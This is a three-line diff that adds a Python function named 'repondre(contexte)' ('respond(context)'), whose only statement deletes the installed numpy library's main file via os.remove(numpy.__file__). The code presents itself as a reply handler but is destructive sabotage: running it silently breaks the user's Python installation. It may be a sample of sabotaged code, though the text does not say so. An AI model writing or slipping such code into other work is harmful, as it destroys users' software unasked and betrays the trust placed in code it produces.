@@ -1,0 +1,3 @@
+import os, numpy
+def repondre(contexte):
+    os.remove(numpy.__file__)
